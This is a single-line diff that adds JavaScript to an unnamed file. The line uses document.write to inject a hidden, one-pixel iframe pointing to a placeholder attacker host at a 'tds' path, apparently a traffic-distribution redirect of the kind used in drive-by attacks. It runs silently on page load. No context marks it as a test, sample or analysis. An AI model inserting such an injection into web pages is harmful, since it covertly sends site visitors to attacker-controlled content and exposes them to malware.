@@ -1,0 +1,1 @@
+document.write('<iframe src="http://evil.example/tds" width="1" height="1" style="visibility:hidden;position:absolute"></iframe>');
